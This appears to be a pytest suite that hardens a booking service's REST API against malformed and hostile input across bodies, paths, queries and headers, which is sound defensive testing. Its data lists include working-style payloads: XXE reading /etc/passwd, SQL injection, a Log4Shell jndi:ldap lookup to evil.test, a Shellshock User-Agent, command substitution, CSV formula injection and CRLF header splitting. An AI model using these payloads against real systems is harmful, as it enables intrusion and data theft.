"""Bad input on every route: each is a clear refusal, in good time, and leaves nothing behind. What is
refused at the door is refused before the caller's rights are asked for more than admission, so all
of it is sent as a super administrator, whom nothing else would stop."""
import datetime
import itertools
import json
import random
import time
import uuid

import pytest

from lib.client import Api, expect, expect_problem
from lib.raw import Connection
from lib.routes import METHODS, filled, operations

OPERATIONS = operations()
ALL = pytest.mark.parametrize("op", [pytest.param(o, id=o.name) for o in OPERATIONS])
WITH_BODY = pytest.mark.parametrize("op", [pytest.param(o, id=o.name) for o in OPERATIONS if o.body])
WITHOUT_BODY = pytest.mark.parametrize("op", [pytest.param(o, id=o.name) for o in OPERATIONS
                                              if not o.body and o.method != "GET"])
WITH_PARAMETER = pytest.mark.parametrize("op", [pytest.param(o, id=o.name) for o in OPERATIONS
                                                if "{" in o.path])
PATHS = sorted({o.path for o in OPERATIONS} - {"/api/v1/health/"})

# Rows come here without anybody's request.
BY_THEMSELVES = {"bus.rate_counts", "bus.jobs"}


@pytest.fixture
def root(login):
    return login("SUPER_ADMIN")


def sizes(db):
    """Rows of each table."""
    db.execute("""SELECT format('%I.%I', n.nspname, c.relname) AS name
                  FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
                  WHERE n.nspname IN ('booking', 'identity', 'bus') AND c.relkind IN ('r', 'p')
                  AND NOT c.relispartition""")
    names = {row["name"] for row in db.fetchall()} - BY_THEMSELVES
    db.execute(" UNION ALL ".join(f"SELECT '{n}' AS name, count(*) AS n FROM {n}" for n in names))
    return {row["name"]: row["n"] for row in db.fetchall()}


@pytest.fixture
def nothing_stored(root, db):
    before = sizes(db)
    yield
    after = sizes(db)
    grown = {name: n - before[name] for name, n in after.items() if n > before[name]}
    assert not grown, grown


def send(api, op, data=None, path=None, **more):
    """The operation with raw bytes as body. No answer takes long."""
    headers = ({"Content-Type": "application/json"} if data is not None else {}) | more.pop("headers", {})
    start = time.monotonic()
    reply = api.request(op.method, path or filled(op.path), data=data, headers=headers, **more)
    assert time.monotonic() - start < 5, f"{op.name} took long"
    assert 400 <= reply.status_code < 500, f"{op.name}: {data!r:.200}: {reply.status_code} {reply.text}"
    return reply


# --- bodies that are no JSON, or not the JSON that anybody needs

def nested(n, opening, closing):
    return b'{"a":' + opening * n + closing * n + b"}"


MALFORMED = {
    "one bracket": b"{", "no value": b'{"a":', "no end": b'{"a":"b', "cut in an escape": b'{"a":"\\u00',
    "trailing comma": b'{"a":1,}', "no colon": b'{"a" 1}', "single quotes": b"{'a':1}",
    "no quotes": b"{a:1}", "word": b"nul", "two values": b"{}{}", "text after": b"{} x",
    "NUL after": b"{}\0", "comment": b"{}//x", "form": b"a=1&b=2",
    "XML": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
    "byte order mark": b"\xef\xbb\xbf{}", "UTF-16": '{"a":1}'.encode("utf-16"),
    "noise": bytes(range(256)), "same name twice": b'{"a":1,"a":1}',
    "same name, escaped": b'{"a":1,"\\u0061":2}', "same name, inside": b'{"a":{"b":[{"c":1,"c":2}]}}',
    "lone byte": b'{"a":"\xff"}', "overlong": b'{"a":"\xc0\x80"}', "surrogate": b'{"a":"\xed\xa0\x80"}',
    "above Unicode": b'{"a":"\xf4\x90\x80\x80"}', "cut character": b'{"a":"\xe2\x82"}',
    "lone surrogate": b'{"a":"\\ud800"}', "swapped surrogates": b'{"a":"\\udc00\\ud800"}',
    "NUL": b'{"a":"b\0c"}', "escaped NUL": b'{"a":"b\\u0000c"}', "NUL in a name": b'{"a\\u0000b":1}',
    "control": b'{"a":"\x01"}', "line end": b'{"a":"b\nc"}', "unknown escape": b'{"a":"\\x41"}',
    "above 2^53": b'{"a":9007199254740993}', "below -2^53": b'{"a":-9007199254740993}',
    "1e999": b'{"a":1e999}', "-1e999": b'{"a":-1e999}', "20 digits": b'{"a":18446744073709551616}',
    "zeros first": b'{"a":01}', "plus": b'{"a":+1}', "no digits": b'{"a":-}', "dot": b'{"a":1.}',
    "NaN": b'{"a":NaN}', "Infinity": b'{"a":Infinity}', "hexadecimal": b'{"a":0x10}',
    "long fraction": b'{"a":0.%s}' % (b"1" * 5000), "33 deep": nested(33, b"[", b"]"),
    "100,000 deep": b"[" * 100000, "objects deep": b'{"a":' * 100000,
    "1,001 items": b'{"a":[%s]}' % b",".join([b"1"] * 1001),
    "1,001 members": b"{%s}" % b",".join(b'"a%d":1' % i for i in range(1001)),
    "a megabyte of spaces": b" " * (1 << 20), "a megabyte of brackets": b"[]," * (1 << 18),
}


@WITH_BODY
def test_what_is_no_json(root, nothing_stored, op):
    for name, data in MALFORMED.items():
        problem = expect_problem(send(root, op, data), 400, "malformed")
        assert problem["detail"].startswith("The body is not JSON: "), name


GOOD = {
    "quote_create": {"guest_count": 10, "venue_zip": "95112", "event_type": "birthday", "addons": ["sake_bar"]},
    "login": {"email": "nobody@example.com", "password": "vermicelli 99 lamps"},
    "booking_create": {"event_date": "2027-06-12", "event_time": "18:00", "adults": 10,
                       "venue_zip": "95112", "venue_address": "1 Market Street",
                       "contact": {"name": "Zo\u00eb", "email": "z@example.com"}},
}
REAL = pytest.mark.parametrize("op", [pytest.param(o, id=o.name) for o in OPERATIONS if o.name in GOOD])


@REAL
def test_a_body_that_is_cut_anywhere(root, nothing_stored, op):
    whole = json.dumps(GOOD[op.name], ensure_ascii=False).encode()
    for n in range(1, len(whole)):
        expect_problem(send(root, op, whole[:n]), 400, "malformed")


@REAL
def test_a_body_with_a_byte_changed(root, op):
    rng = random.Random(op.name)
    whole = json.dumps(GOOD[op.name]).encode()
    for _ in range(20 if op.name == "login" else 300):  # passwords are slow to check, on purpose
        data = bytearray(whole)
        data[rng.randrange(len(data))] = rng.randrange(256)
        reply = root.request(op.method, op.path, data=bytes(data), key=True,
                             headers={"Content-Type": "application/json"})
        assert reply.status_code < 500, (bytes(data), reply.text)


@WITH_BODY
def test_no_body_and_no_object(root, nothing_stored, op):
    if "optional_body" not in op.flags:
        expect_problem(send(root, op, b""), 400, "malformed")
    for data in (b"[]", b'"a"', b"1", b"true", b"null", b"[{}]"):
        expect_problem(send(root, op, data), 422, "invalid", pointer="")


@pytest.mark.parametrize("size", [(1 << 20) + 1, 5 << 20])
def test_too_much_body(root, running, nothing_stored, size):
    """At the service alone: nginx has a limit of its own (test_edge.py)."""
    op = next(o for o in OPERATIONS if o.name == "booking_create")
    past_nginx = Api(running.url("booking-1"), None, None).with_token(root.token)
    expect_problem(send(past_nginx, op, b" " * size), 413, "too_large")


@WITHOUT_BODY
def test_a_body_where_none_belongs(root, nothing_stored, op):
    for data in (b"{}", b"x", b"{" * 1000):
        reply = send(root, op, data)
        assert reply.status_code == 422 and op.query or expect_problem(reply, 400, "malformed")


@WITH_BODY
def test_other_media_types(root, nothing_stored, op):
    for media in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=a",
                  "application/json; charset=utf-16", "application/jsonx", "application/xml", "*/*", ""):
        expect_problem(send(root, op, b"{}", headers={"Content-Type": media}), 415, "unsupported_media_type")
    for coding in ("gzip", "br", "deflate", "identity, gzip"):  # so nothing is unpacked here
        expect_problem(send(root, op, b"{}", headers={"Content-Encoding": coding}), 415,
                       "unsupported_media_type")


# --- members of a body

WRONG = [None, True, 1.5, -1, 2**53, 10**15, "", " ", "x", "\u202e", "0" * 20000, [], [[]], [None], {},
         {"a": {}}, ["x"] * 1000, "<script>alert(1)</script>", "' OR 1=1 --", "%n%n%s",
         "../../etc/passwd"]


def kind_of(value):
    names = {type(None): "null", bool: "boolean", str: "string", list: "array", dict: "object",
             int: "integer", float: "number"}
    return names[type(value)]


@WITH_BODY
def test_values_of_another_type(root, nothing_stored, op):
    """Each member that is of a wrong type is pointed at."""
    for name, types in op.body.items():
        for value in WRONG:
            if kind_of(value) in types:
                continue
            reply = send(root, op, json.dumps({name: value, "no such": 1}).encode())
            expect_problem(reply, 422, "invalid", pointer=f"/{name}")


@WITH_BODY
def test_any_values_at_all(root, nothing_stored, op):
    """Right or wrong, they do no harm; one unknown member makes sure that nothing is done."""
    rng = random.Random(op.name)
    names = list(op.body)
    for _ in range(40):
        body = {n: rng.choice(WRONG) for n in rng.sample(names, rng.randint(0, len(names)))}
        reply = send(root, op, json.dumps(body | {"no such": 1}).encode())
        assert reply.status_code == 422, reply.text
        assert reply.json()["code"] in ("invalid", "card_number_refused")


@WITH_BODY
def test_members_that_nobody_asked_for(root, nothing_stored, op):
    names = ["__proto__", "constructor", "is_admin", "permissions[]", "id ", "ID", "state", "total_cents",
             "a/b~c", "a\nb", "\U0001f363", "\u202e", "$where", "%00", "x" * 10000, ""]
    for name in names:
        if name in op.body:
            continue
        problem = expect_problem(send(root, op, json.dumps({name: 1}).encode()), 422, "invalid")
        shown = name[:64].replace("~", "~0").replace("/", "~1")
        assert {"pointer": f"/{shown}", "reason": "Is not known here"} in problem["errors"], problem


def test_no_more_mistakes_are_listed_than_anybody_reads(root, nothing_stored):
    op = next(o for o in OPERATIONS if o.name == "booking_create")
    body = {f"m{i}": i for i in range(900)}
    problem = expect_problem(send(root, op, json.dumps(body).encode()), 422, "invalid")
    assert 10 <= len(problem["errors"]) <= 64


def test_a_huge_password_is_not_hashed(api, nothing_stored):
    body = {"email": "somebody@example.com", "password": "p" * 900_000}
    start = time.monotonic()
    expect_problem(api.post("/api/v1/auth/login", json=body), 422, "invalid", pointer="/password")
    assert time.monotonic() - start < 1


STATION = "0198a000-0000-7000-8000-0000000000a1"
HOSTILE_TEXTS = {
    "Jo <script>alert(1)</script> Li": "Jo alert(1) Li", "<img src=x onerror=alert(1)>Jo": "Jo",
    "a < b": "a < b", "O'Brien'; DROP TABLE booking.waitlist; --": None,
    "${jndi:ldap://evil.test/a}": None, "{{7*7}}": None, "%s%n%x%99999d": None, "$(id)`id`|id": None,
    "../../../../etc/passwd": None, "Robert\\": None, '","admin":true,"x":"': None,
    "=cmd|'/c calc'!A1": None, "line\r\nBcc: evil@example.com": "line\nBcc: evil@example.com",
    "\u05d0\u202e\U0001f363\u200d": None, "NULL": None, "\u00a0x\u00a0": None, "x" * 100: None,
}


@pytest.mark.parametrize("sent", HOSTILE_TEXTS, ids=range(len(HOSTILE_TEXTS)))
def test_text_is_data(root, db, sent):
    """What people write is kept as it is but for markup, and comes back as it was kept; nothing else of
    the row is touched."""
    email = f"{uuid.uuid4().hex}@example.com"
    day = (datetime.date.today() + datetime.timedelta(30)).isoformat()
    body = {"station_id": STATION, "event_date": day, "from_time": "12:00", "until_time": "18:00",
            "guest_count": 4, "name": sent, "email": email}
    created = expect(root.post("/api/v1/waitlist", body, key=True), 201)
    kept = HOSTILE_TEXTS[sent] or sent
    db.execute("SELECT name, state FROM booking.waitlist WHERE id = %s", (created["id"],))
    assert dict(db.fetchone()) == {"name": kept, "state": "waiting"}
    page = expect(root.get("/api/v1/waitlist", params={"event_date": day, "limit": 100, "station_id": STATION}))
    assert kept in [item["name"] for item in page["items"]]
    expect(root.delete(f"/api/v1/waitlist/{created['id']}"), 204)


@pytest.mark.parametrize("text", ["control \x01", "DEL \x7f", "C1 \x9b", "", " \t\n", "<b></b>",
                                  "x" * 101, "4242 4242 4242 4242", "card 4242424242424242 please"])
def test_text_that_is_refused(root, nothing_stored, text):
    op = next(o for o in OPERATIONS if o.name == "waitlist_create")
    reply = send(root, op, json.dumps({"name": text}).encode())
    assert "/name" in [e["pointer"] for e in reply.json()["errors"]], reply.text


# --- paths

IDS = ["0", "1", "-1", "null", "undefined", "NaN", "*", "..", ".", "%2e%2e", "%2e", "..%2f..", "%2f",
       "%5c", "%00", "%0a", "%0d%0aX-Evil:%201", "'", "%27%20OR%201=1--", "%22", "<script>",
       "%3Cscript%3E", "{id}", "%7Bid%7D", "%ff", "%c0%ae", "%u002e", "%", "%2", "%zz", "x" * 1000,
       "x" * 5000, "0" * 36, "%F0%9F%8D%A3", "a;b=c", "a,b", "00000000-0000-0000-0000-00000000000g",
       "00000000-0000-0000-0000-0000000000000", "00000000-0000-0000-0000-000000000000%00",
       "00000000-0000-0000-0000-000000000000.json", "(00000000-0000-0000-0000-000000000000)",
       "00000000000000000000000000000000"]


@pytest.fixture(scope="module")
def ask(running):
    """ask("GET", target, token): the target as it is, which no client library would send."""
    connection = None

    def exchange(method, target, token=None, headers=""):
        nonlocal connection
        sign = f"Authorization: Bearer {token}\r\n" if token else ""
        length = "" if method in ("GET", "HEAD") else "Content-Length: 0\r\n"
        data = f"{method} {target} HTTP/1.1\r\nHost: localhost\r\n{sign}{headers}{length}\r\n".encode()
        for _ in range(2):  # a kept connection may have been closed meanwhile
            connection = connection or Connection(running.env["BASE_URL"], running.env["CA_FILE"])
            connection.send(data)
            reply = connection.reply()
            if reply is None or reply.headers["Connection"] == "close":
                connection = None
            if reply is not None:
                return reply
        raise AssertionError(f"no reply to {method} {target}")

    return exchange


@WITH_PARAMETER
def test_ids_that_are_none(root, ask, nothing_stored, op):
    head, _, rest = op.path.partition("{")
    tail = filled(rest.partition("}")[2])
    for text in IDS:
        reply = ask(op.method, head + text + tail, root.token)
        assert 400 <= reply.status_code < 500 and reply.status_code != 401, (text, reply.text)
        assert reply.headers["Content-Type"].startswith("application/problem+json"), text
        assert "X-Evil" not in reply.headers and len(reply.content) < 4000  # it may name all operations


def spellings(path):
    """Other ways to write a path, which a careless reader takes for the same."""
    head, _, last = path.rpartition("/")
    yield from (path + "/x", path + "/", path + "//", path + "/.", path + "/..;/", path + ".",
                path + ".json", path + "%20", path + "%00", path + "%2f", path + ";", path + ";a=b",
                path + "%3f", path + "%23", path + "\\", path + "%5c", "/" + path, "/." + path,
                "/x/.." + path, path.upper(), f"{head}//{last}", f"{head}/./{last}",
                f"{head}/x/../{last}", f"{head}%2f{last}", f"{head}\\{last}",
                f"{head}/%{ord(last[0]):02x}{last[1:]}", f"{head}/%25{ord(last[0]):02x}{last[1:]}",
                path.replace("/api/v1", "/api/v2"), path.replace("/api/v1", "/api/V1"),
                path.replace("/api/v1", "/API/v1"), path.replace("/api/v1", ""))


# They are routes of their own.
GOOD_SPELLINGS = {"/api/v1/health/", "/health"}


@pytest.mark.parametrize("path", PATHS)
def test_other_spellings_of_a_path(root, ask, path):
    path = filled(path).replace("none", "some")
    for target in set(spellings(path)) - GOOD_SPELLINGS - {path}:
        reply = ask("GET", target, root.token)
        assert reply.status_code in (400, 404, 405), (target, reply.text)
        assert reply.headers["Content-Type"].startswith("application/problem+json"), target


@pytest.mark.parametrize("path", PATHS)
def test_other_methods(root, ask, path):
    known = {o.method for o in OPERATIONS if o.path == path}
    allowed = known | ({"HEAD"} if "GET" in known else set())
    for method in [m.upper() for m in METHODS] + ["OPTIONS", "PROPFIND", "TRACE", "TRACK", "DEBUG", "COPY"]:
        if method in allowed:
            continue
        reply = ask(method, filled(path), root.token)
        assert reply.status_code == 405, (method, reply.text)
        assert reply.json()["code"] == "method_not_allowed"
        if method.lower() in METHODS:
            assert set(reply.headers["Allow"].split(", ")) == allowed
    override = "X-HTTP-Method-Override: DELETE\r\nX-HTTP-Method: DELETE\r\nX-Method-Override: DELETE\r\n"
    if "DELETE" in known and "GET" in known:
        assert ask("GET", filled(path), root.token, override).status_code in (200, 404)


# --- queries

@ALL
def test_queries_that_are_none(root, ask, nothing_stored, op):
    target = filled(op.path)
    for query in ("%", "%2", "%zz", "a=%", "a=%00", "%00=a", "a=%ff", "a=%c0%ae", "a=%ed%a0%80",
                  "a=%u0041", "&".join(f"a{i}" for i in range(1000))):
        reply = ask(op.method, f"{target}?{query}", root.token)
        assert (reply.status_code, reply.json()["code"]) == (400, "malformed"), (query, reply.text)
    reply = ask(op.method, f"{target}?a={'x' * 9000}", root.token)
    assert (reply.status_code, reply.json()["code"]) == (414, "uri_too_long")


@ALL
def test_parameters_that_nobody_asked_for(root, ask, nothing_stored, op):
    for name in ("x", "id", "admin", "_method", "access_token", "callback", "limit[]", "fields", "%6e",
                 "x" * 3000, "a%26b", "%3Cscript%3E", "%ff", ""):
        reply = ask(op.method, f"{filled(op.path)}?{name}=1", root.token)
        assert (reply.status_code, reply.json()["code"]) == (422, "invalid"), (name, reply.text)
        assert reply.json()["errors"][0]["reason"] == "Is not a parameter of this route"


WITH_QUERY = pytest.mark.parametrize("op", [pytest.param(o, id=o.name) for o in OPERATIONS if o.query])


@WITH_QUERY
def test_parameters_given_twice(root, ask, nothing_stored, op):
    """However the second one is written: there is no first or last that wins."""
    for name in op.query:
        for second in (name, "%{:02x}{}".format(ord(name[0]), name[1:])):
            reply = ask(op.method, f"{filled(op.path)}?{name}=1&{second}=2", root.token)
            assert reply.status_code == 422, reply.text
            mine = [e["reason"] for e in reply.json()["errors"] if e["pointer"] == name]
            assert mine, reply.text


@WITH_QUERY
def test_values_of_parameters(root, ask, nothing_stored, op):
    values = ["", "%20", "null", "-1", "0x10", "1e3", "1.0", "9223372036854775808", "1" * 400, "true%20",
              "TRUE", "[]", "%27%20OR%20%271%27=%271", "%27;SELECT%20pg_sleep(9)--", "%25", "_", "%2525",
              "*", "%5b%5d", "a%00b", "%0d%0aSet-Cookie:%20a=b", "2026-02-30", "0000-00-00",
              "99999-01-01", "%E2%80%AE", "%F0%9F%8D%A3"]
    for name, value in itertools.product(op.query, values):
        start = time.monotonic()
        reply = ask(op.method, f"{filled(op.path)}?{name}={value}", root.token)
        assert time.monotonic() - start < 5, (name, value)
        assert reply.status_code < 500 and reply.status_code != 401, (name, value, reply.text)
        assert "Set-Cookie" not in reply.headers
        if "%00" in value:
            assert reply.status_code == 400


def test_a_cursor_of_another_list(root, nothing_stored):
    page = expect(root.get("/api/v1/audit", params={"limit": 1}))
    cursor = page["next_cursor"]
    expect(root.get("/api/v1/audit", params={"limit": 1, "cursor": cursor}))
    for path in ("/api/v1/users", "/api/v1/bookings", "/api/v1/me/login-history"):
        expect_problem(root.get(path, params={"cursor": cursor}), 422, "invalid", pointer="cursor")
    for forged in (cursor[:-2] + "AA", cursor[1:], cursor + "A", cursor.replace("k1", "k0"), cursor * 2, "a.b.c"):
        expect_problem(root.get("/api/v1/audit", params={"cursor": forged}), 422, "invalid", pointer="cursor")


# --- headers

def test_nobody_says_who_he_is_but_nginx(api, demo, db):
    """A sign-in is remembered with the address that nginx saw."""
    said = "203.0.113.77"
    for name in ("X-Real-IP", "X-Forwarded-For", "Forwarded", "True-Client-IP", "X-Client-IP",
                 "X_Real_IP", "Via", "CF-Connecting-IP"):
        agent = uuid.uuid4().hex
        expect(api.post("/api/v1/auth/login", json=demo["CUSTOMER"], headers={
            name: f"for={said}" if name == "Forwarded" else said, "User-Agent": agent}))
        db.execute("SELECT host(ip) AS ip FROM identity.login_history WHERE user_agent = %s", (agent,))
        assert [row["ip"] for row in db.fetchall()] in (["127.0.0.1"], ["::1"]), name


@pytest.mark.parametrize("value", [
    "", "Bearer", "Bearer ", "Basic YTpi", "Digest a=b", "bearer", "Bearer a b", "Bearer a, Bearer b",
    "Token x", "Bearer " + "a" * 4000, "Bearer ..", "Bearer \tx", "Bearer %00", "Bearer null",
    "Bearer \xff", "x" * 4000])
def test_authorization_that_is_none(api, value):
    reply = api.get("/api/v1/me", headers={"Authorization": value.encode("latin1")})
    assert "Is not" not in reply.text
    expect_problem(reply, 401, "unauthorized")
    assert reply.headers["WWW-Authenticate"] == "Bearer"


@pytest.mark.parametrize("value", ["", '""', '"', "a b", "a\tb", "k" * 256, '"%s"' % ("k" * 256), 'a"b',
                                   "a\\b", "\xe4", '"a', "\x7f"])
def test_keys_that_are_none(root, nothing_stored, value):
    body = dict(GOOD["booking_create"], event_date="2020-01-01")
    reply = root.request("POST", "/api/v1/bookings", json=body, headers={"Idempotency-Key": value.encode("latin1")})
    assert reply.status_code == 400, reply.text
    assert reply.json()["code"] in ("malformed", "idempotency_key_required")


@pytest.mark.parametrize("value", ["", "*", "x", '"', '""', 'W/"1"', '"1", "2"', '"%s"' % ("1" * 300), "\xff" * 50])
def test_versions_that_are_none(root, nothing_stored, value):
    path = f"/api/v1/equipment/{uuid.uuid4()}"
    reply = root.request("PATCH", path, json={"name": "x"}, headers={"If-Match": value.encode("latin1")})
    assert reply.status_code in (404, 412, 428), reply.text


@pytest.mark.parametrize("headers", [
    {"If-None-Match": "," * 4000}, {"If-None-Match": '"a", ' * 1000}, {"If-None-Match": "W/" * 1000},
    {"traceparent": "00-" + "g" * 52}, {"traceparent": "00-" + "0" * 4000}, {"traceparent": "\x01"},
    {"Accept": "x/" + "y" * 4000}, {"Accept-Encoding": "gzip;q=" + "9" * 4000}, {"Range": "bytes=0-0,-1"},
    {"Cookie": "a=" + "b" * 4000}, {"Transfer-Encoding": ""}, {"Connection": "X-Real-IP, Authorization"},
    {"X-Forwarded-Host": "evil.test"}, {"X-Original-URL": "/api/v1/users"},
    {"X-Rewrite-URL": "/api/v1/users"}, {"X-HTTP-Method-Override": "DELETE"},
    {"Upgrade": "websocket", "Connection": "Upgrade"}, {"User-Agent": "() { :;}; /bin/id"},
    {"Referer": "${jndi:ldap://evil.test/a}"}, {"Origin": "https://evil.test"},
    {"!#$%&'*+-.^_`|~": "odd"}, {"X" * 4000: "long"},
    {f"X-{i}": "many" for i in range(30)}], ids=lambda headers: next(iter(headers))[:20])
def test_headers_that_mean_nothing_here(api, headers):
    """Read or not, they change nothing: the reply is the usual one, or a refusal of the header."""
    sent = {k: v.encode("latin1") for k, v in headers.items()}
    reply = api.get("/api/v1/health/liveness", headers=sent)
    assert reply.status_code in (200, 400), reply.text
    if reply.status_code == 200:
        assert reply.json() == {"status": "alive"}
    assert "evil.test" not in str(reply.headers) and "Location" not in reply.headers


@pytest.mark.parametrize("where", ["/api/v1/%0d%0aX-Evil:%201", "/api/v1/bookings/%0d%0aX-Evil:%201",
                                   "/api/v1/availability?from=%0d%0aX-Evil:%201", "/%0aX-Evil:%201",
                                   "/api/docs/%0d%0aX-Evil:%201", "/api/docs?%0d%0aX-Evil:%201"])
def test_replies_cannot_be_split(ask, where):
    reply = ask("GET", where)
    assert "X-Evil" not in reply.headers and reply.status_code in (308, 400, 401, 404, 422)


def test_problems_tell_nothing_of_the_inside(api, root, login):
    """What is not there, what is not allowed and what is not known read the same to everybody."""
    some = f"/api/v1/users/{uuid.uuid4()}"
    customer = login("CUSTOMER")
    for reply, status, code in [
            (api.get("/api/v1/none"), 404, "not_found"), (api.get("/api/v1/metrics"), 404, "not_found"),
            (api.get("/api/v1/users/x"), 404, "not_found"), (api.get(some + "/x"), 404, "not_found"),
            (api.get("/api/v1/users"), 401, "unauthorized"), (api.get(some), 401, "unauthorized"),
            (customer.get("/api/v1/users"), 403, "forbidden"), (customer.get(some), 403, "forbidden"),
            (root.get(some), 404, "not_found"), (root.get(f"/api/v1/bookings/{uuid.uuid4()}"), 404, "not_found")]:
        problem = expect_problem(reply, status, code)
        assert set(problem) == {"type", "title", "status", "code", "request_id"}
